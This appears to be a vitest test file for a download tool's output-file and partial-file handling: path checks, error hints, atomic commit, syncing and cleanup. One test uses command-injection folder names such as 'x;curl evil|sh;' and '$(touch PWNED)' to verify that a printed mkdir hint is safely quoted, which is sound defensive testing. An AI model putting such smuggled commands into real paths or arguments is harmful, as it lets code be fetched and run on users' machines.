import { execFileSync } from 'node:child_process';
import { chmod, mkdir, readdir, readFile, stat, symlink, writeFile } from 'node:fs/promises';
import { describe, expect, it, onTestFinished } from 'vitest';
import type { SafePath } from '../../../src/platform/files/safe-path.ts';
import { createPathError, createWriteError, hasExistingFile } from '../../../src/service/http/output-file.ts';
import { createPartialFile } from '../../../src/service/http/partial-file.ts';
import { createFolder, join } from '../../support/create-folder.ts';
import { hostProcess } from '../../support/host-process.ts';
import { recordSyncs } from '../../support/record-syncs.ts';

const facts = { ...hostProcess, random: Math.random };
const toBytes = (text: string) => new TextEncoder().encode(text);
const createFile = (path: SafePath, replace = false) => createPartialFile(path, 'shown', replace, facts);

describe('the target of a download', () => {
  it('may be free or an existing file', async () => {
    const at = createFolder();
    expect(await hasExistingFile(join(at, 'a'), 'a')).toBe(false);
    await writeFile(join(at, 'a'), '');
    expect(await hasExistingFile(join(at, 'a'), 'a')).toBe(true);
  });

  it.each([
    ['a folder', 'is a folder', (path: string) => mkdir(path)],
    ['a link', 'symbolic link', (path: string) => symlink('/etc/passwd', path)],
    ['a link to nothing', 'symbolic link', (path: string) => symlink('/nowhere', path)],
    ['a pipe', 'not a regular file', async (path: string) => void execFileSync('mkfifo', [path])],
  ])('is never %s', async (_, words, make) => {
    const path = join(createFolder(), 'x');
    await make(path);
    await expect(hasExistingFile(path, 'x')).rejects.toMatchObject({
      exit: 2,
      message: expect.stringContaining(words),
    });
  });

  it.each(['x;curl evil|sh;', '$(touch PWNED)', "it's", '-rf'])(
    'in a folder %s that does not exist has a quoted command that creates the folder',
    async (name) => {
      const at = createFolder();
      const error = await hasExistingFile(join(at, name, 'x'), `${name}/x`).catch(
        (caught: unknown) => caught,
      );
      const { hint } = error as { readonly hint: string };
      expect(hint).toMatch(/^mkdir -p /);
      const words = execFileSync('sh', ['-c', `printf '%s\\n' ${hint}`], { cwd: at, encoding: 'utf8' });
      expect(words.split('\n').slice(2)).toStrictEqual([name, '']);
      expect(await readdir(at)).toStrictEqual([]);
    },
  );

  it('gets a folder and name that the file system accepts', async () => {
    const at = createFolder();
    await expect(hasExistingFile(join(at, 'no', 'x'), 'no/x')).rejects.toMatchObject({
      exit: 2,
      code: 'no_folder',
    });
    await writeFile(join(at, 'file'), '');
    await expect(hasExistingFile(join(at, 'file', 'x'), 'x')).rejects.toMatchObject({
      exit: 2,
      message: expect.stringContaining('not a folder'),
      hint: expect.stringContaining('use another path'),
    });
    await expect(hasExistingFile(join(at, 'a'.repeat(256)), 'x')).rejects.toMatchObject({
      exit: 2,
      message: expect.stringContaining('too long'),
      hint: expect.stringContaining('shorter'),
    });
  });
});

describe('a target that is not writable', () => {
  it.skipIf(process.getuid?.() === 0)('names the owner of the folder', async () => {
    const at = createFolder();
    await chmod(at, 0o500);
    onTestFinished(() => chmod(at, 0o700));
    await expect(createPartialFile(join(at, 'x'), 'out/x', false, facts)).rejects.toMatchObject({
      exit: 2,
      message: 'out/x cannot be written: permission denied',
      hint: 'check who may write there: ls -ld out',
    });
  });

  it.each([
    ['EACCES', 'permission denied', 'ls -ld out'],
    ['EROFS', 'read-only', 'writable'],
    ['ENOSPC', 'no space', 'free some space'],
    ['EDQUOT', 'quota', 'free some space'],
    ['ENAMETOOLONG', 'too long', 'shorter'],
    ['ENOTDIR', 'not a folder', 'use another path'],
    ['EWHATEVER', 'EWHATEVER', 'give another path with -o'],
  ])('%s is explained with what to do, before and after the request', (code, words, hint) => {
    const error = Object.assign(new Error(), { code });
    for (const printed of [createPathError('out/x', error), createWriteError('out/x', error)]) {
      expect(printed.message).toContain(words);
      expect(printed.hint).toContain(hint);
    }
  });
});

describe('a partial file', () => {
  it('gets its final name only when it is complete, with the mode of the user', async () => {
    const at = createFolder();
    const path = join(at, `${'n'.repeat(251)}.svg`);
    const landing = await createFile(path);
    await landing.sink.write(toBytes('one '));
    await landing.sink.write(toBytes('two'));
    expect((await readdir(at)).filter((name) => name.endsWith('.svg'))).toStrictEqual([]);
    await landing.commit();
    expect(await readFile(path, 'utf8')).toBe('one two');
    expect(await readdir(at)).toHaveLength(1);
    expect((await stat(path)).mode & 0o777).toBe(0o666 & ~process.umask());
    await landing.discard();
    expect(await readFile(path, 'utf8')).toBe('one two');
  });

  it('is synced before it gets its name, and its folder after it', async () => {
    const at = createFolder();
    const landing = await createFile(join(at, 'x'));
    const synced = await recordSyncs(at);
    await landing.sink.write(toBytes('all'));
    await landing.commit();
    expect(synced).toStrictEqual(['3 bytes', 'folder of x']);
  });

  it('reports a failing sync of the folder', async () => {
    const at = createFolder();
    const landing = await createFile(join(at, 'x'));
    await recordSyncs(at, 'EIO');
    await landing.sink.write(toBytes('all'));
    expect(await landing.commit()).toBe(
      'shown was written, but a power failure may undo that: the disk reports an error',
    );
    expect(await readFile(join(at, 'x'), 'utf8')).toBe('all');
  });

  it('takes another temporary name when the first exists', async () => {
    const at = createFolder();
    const alike = { ...facts, alive: () => true, now: () => 0 };
    let turn = 0;
    const first = await createPartialFile(join(at, 'x'), 'x', false, { ...alike, random: () => 0.5 });
    const second = await createPartialFile(join(at, 'x'), 'x', false, {
      ...alike,
      random: () => (turn++ === 0 ? 0.5 : 0.25),
    });
    onTestFinished(async () => {
      await first.discard();
      await second.discard();
    });
    expect(await readdir(at)).toHaveLength(2);
  });

  it('can start over', async () => {
    const path = join(createFolder(), 'x');
    const landing = await createFile(path);
    await landing.sink.write(new Uint8Array(3_000_000));
    expect(await landing.sink.startOver()).toBe(true);
    await landing.sink.write(toBytes('new'));
    await landing.commit();
    expect(await readFile(path, 'utf8')).toBe('new');
  });

  it('is removed when the download is given up', async () => {
    const at = createFolder();
    const landing = await createFile(join(at, 'x'));
    await landing.sink.write(toBytes('half'));
    await landing.discard();
    expect(await readdir(at)).toStrictEqual([]);
  });

  it('does not replace a file that appeared meanwhile, unless allowed', async () => {
    const at = createFolder();
    const path = join(at, 'x');
    const landing = await createFile(path);
    await writeFile(path, 'theirs');
    await expect(landing.commit()).rejects.toMatchObject({ exit: 1, code: 'file_exists' });
    await landing.discard();
    expect(await readFile(path, 'utf8')).toBe('theirs');
    const other = await createFile(path, true);
    await other.sink.write(toBytes('mine'));
    await other.commit();
    expect(await readFile(path, 'utf8')).toBe('mine');
    expect(await readdir(at)).toStrictEqual(['x']);
  });

  it('does not replace a symbolic link that appeared meanwhile', async () => {
    const path = join(createFolder(), 'x');
    const landing = await createFile(path, true);
    await symlink('/etc/passwd', path);
    await expect(landing.commit()).rejects.toMatchObject({ exit: 1, code: 'not_a_file' });
    await landing.discard();
  });

  it('of a killed download to the same name is removed, and nothing else', async () => {
    const at = createFolder();
    const dead = { ...facts, pid: 4_000_000 };
    for (const name of ['x', 'other']) {
      const killed = await createPartialFile(join(at, name), name, false, dead);
      onTestFinished(() => killed.discard());
    }
    const mine = await createFile(join(at, 'x'));
    const names = await readdir(at);
    expect(names).toHaveLength(2);
    expect(names.some((name) => name.includes(`-${process.pid}-`))).toBe(true);
    await mine.discard();
  });

  it('reserves disk space first', async () => {
    const landing = await createFile(join(createFolder(), 'x'));
    onTestFinished(() => landing.discard());
    await expect(landing.checkFreeSpace(2 ** 60)).rejects.toMatchObject({ code: 'no_space', exit: 1 });
    await landing.checkFreeSpace(1);
  });

  it('reports a full disk', async ({ skip }) => {
    const at = createFolder();
    try {
      execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=64k', 'tmpfs', at], { stdio: 'ignore' });
    } catch {
      skip('nothing may be mounted here: run it as root, outside of a container without CAP_SYS_ADMIN');
    }
    onTestFinished(() => void execFileSync('umount', [at]));
    const landing = await createFile(join(at, 'x'));
    const filling = landing.sink.write(new Uint8Array(2_000_000)).then(() => landing.commit());
    await expect(filling).rejects.toMatchObject({ code: 'no_space', exit: 1 });
    await landing.discard();
    expect(await readdir(at)).toStrictEqual([]);
  });
});
